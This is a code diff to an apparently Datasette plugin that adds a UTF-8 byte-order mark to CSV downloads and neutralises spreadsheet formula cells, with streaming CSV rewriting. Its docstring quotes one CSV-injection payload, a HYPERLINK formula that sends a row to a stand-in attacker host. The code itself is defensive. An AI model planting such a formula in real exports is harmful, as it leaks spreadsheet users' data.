@@ -1,4 +1,5 @@
-"""`_bom=on` on any CSV download puts a UTF-8 byte-order mark in front of it.
+"""`_bom=on` on any CSV download makes it a CSV for a spreadsheet: a UTF-8
+byte-order mark in front, and no cell a spreadsheet would run as a formula.
 
 Excel on a default Windows set-up reads a CSV file without a byte-order
 mark in the local code page, which garbles "Erdoğan" and every Arabic and
@@ -8,15 +9,51 @@ module, most command-line tools) would take it for part of the first column's
 name. Datasette has no such option, so the mark is added to the response on
 its way out. No plugin adds it either: datasette-xlsx and datasette-render-xlsx
 write .xlsx instead, a second export format, and leave the CSV as it is.
+
+A spreadsheet runs a cell that begins with `=`, `+`, `-` or `@` as a formula
+(`=HYPERLINK("http://evil.example/?"&A1,"Click")` sends the row away on a
+click), and so does one that begins with a tab or a carriage return followed
+by one; the records are curated text and imported files, and the site's own
+data has an actor named `@WYazbk`. So the spreadsheet CSV puts a `'` in front
+of such a cell, as OWASP's CSV injection guidance says: the spreadsheet then
+shows the text, with the quote. The plain CSV, the one programs read, is left
+byte for byte as Datasette or /-/csv wrote it: a program would take the quote
+for data, and neutralising is the spreadsheet's problem, not the data's.
+
+A cell that is only a number (`-3`, `+1.5`, `-2e3`, ASCII digits) is left
+alone, unlike OWASP's advice to quote every such cell: a spreadsheet reads it
+as that number, which cannot call a function or refer to a cell, and a quote
+would turn the places' negative longitudes and every other signed figure into
+text that no sum or sort treats as a number.
+
+The response is rewritten as it streams (a `_stream=on` download, or /-/csv's,
+is hundreds of megabytes): the text is cut into whole lines, and Python's csv
+module reads records from them; a quoted cell may hold line breaks, so a
+record that a piece of the body ends inside waits for the next piece. A record
+with nothing to neutralise goes out exactly as it came; one with something is
+written again by the csv module (quoting what needs it, so its cells read back
+the same). The length of the body changes, so Content-Length is dropped and
+the server sends it in chunks.
 """
 
 from __future__ import annotations
 
+import codecs
+import csv
+import io
+import re
+from collections import deque
+from collections.abc import Iterator
 from urllib.parse import parse_qs
 
 from datasette import hookimpl
 
 BOM = "\ufeff".encode()
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+NUMBER = re.compile(r"[+-]?(?:[0-9]+\.?[0-9]*|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")
+# A cell is as long as the database's text, not the csv module's default 128 KB. (The limit is
+# the process's, and nothing else in a Datasette process reads CSV.)
+csv.field_size_limit(2**31 - 1)
 
 
 def wants_bom(scope: dict) -> bool:
@@ -24,6 +61,70 @@ def wants_bom(scope: dict) -> bool:
         return False
     values = parse_qs(scope["query_string"].decode("latin-1")).get("_bom", [])
     return any(value.lower() in ("on", "1", "true") for value in values)
+
+
+def neutralised(cell: str) -> str:
+    """The cell as a spreadsheet may read it: with a `'` in front if it would run as a formula."""
+    return "'" + cell if cell.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(cell) else cell
+
+
+class Lines:
+    """The complete lines received so far, as csv.reader's input. It runs dry
+    (StopIteration) when a record needs a line that has not arrived, and keeps
+    the lines of the record being read, so that record can be read again."""
+
+    def __init__(self) -> None:
+        self.waiting: deque[str] = deque()
+        self.record: list[str] = []
+        self.dry = False
+
+    def __iter__(self) -> Iterator[str]:
+        return self
+
+    def __next__(self) -> str:
+        if not self.waiting:
+            self.dry = True
+            raise StopIteration
+        line = self.waiting.popleft()
+        self.record.append(line)
+        return line
+
+
+class Neutraliser:
+    """A CSV body's bytes in, the same CSV with formula cells neutralised out, piece by piece."""
+
+    def __init__(self) -> None:
+        self.decoder = codecs.getincrementaldecoder("utf-8")()
+        self.partial = ""  # the text after the last line break
+        self.lines = Lines()
+        self.reader = csv.reader(self.lines)
+
+    def feed(self, data: bytes, final: bool = False) -> bytes:
+        """The output for the records completed by data; with final, for all that is left."""
+        text = self.partial + self.decoder.decode(data, final)
+        # Lines end at "\n" only: csv.reader ends a record at "\n" or "\r" alone, and a bare
+        # "\r" comes only quoted, while str.splitlines would cut at "\x1c" or "\u2028" too.
+        end = len(text) if final else text.rfind("\n") + 1
+        self.partial = text[end:]
+        lines = text[:end].split("\n")
+        lines = [line + "\n" for line in lines[:-1]] + ([lines[-1]] if lines[-1] else [])
+        self.lines.waiting.extend(lines)
+        out = io.StringIO()
+        writer = csv.writer(out)
+        while True:
+            self.lines.record, self.lines.dry = [], False
+            row = next(self.reader, None)
+            if row is None:
+                break
+            if self.lines.dry and not final:  # the record goes on in a piece still to come
+                self.lines.waiting.extendleft(reversed(self.lines.record))
+                break
+            cells = [neutralised(cell) for cell in row]
+            if cells == row:
+                out.write("".join(self.lines.record))
+            else:
+                writer.writerow(cells)
+        return out.getvalue().encode("utf-8")
 
 
 @hookimpl
@@ -34,19 +135,23 @@ def asgi_wrapper():
                 await app(scope, receive, send)
                 return
             state = {"ok": False, "marked": False}
+            neutraliser = Neutraliser()
 
             async def marked(message):
                 if message["type"] == "http.response.start":
-                    state["ok"] = message["status"] == 200
+                    headers = message.get("headers", [])
+                    content_type = next((v for n, v in headers if n.lower() == b"content-type"), b"")
+                    state["ok"] = message["status"] == 200 and not content_type.startswith(b"text/html")  # _trace=on
                     if state["ok"]:
-                        headers = [
-                            (name, str(int(value) + len(BOM)).encode() if name.lower() == b"content-length" else value)
-                            for name, value in message.get("headers", [])
-                        ]
+                        headers = [(name, value) for name, value in headers if name.lower() != b"content-length"]
                         message = {**message, "headers": headers}
-                elif message["type"] == "http.response.body" and state["ok"] and not state["marked"]:
-                    state["marked"] = True
-                    message = {**message, "body": BOM + message.get("body", b"")}
+                elif message["type"] == "http.response.body" and state["ok"]:
+                    more = message.get("more_body", False)
+                    body = neutraliser.feed(message.get("body", b""), final=not more)
+                    if not state["marked"]:
+                        state["marked"] = True
+                        body = BOM + body
+                    message = {**message, "body": body}
                 await send(message)
 
             await app(scope, receive, marked)
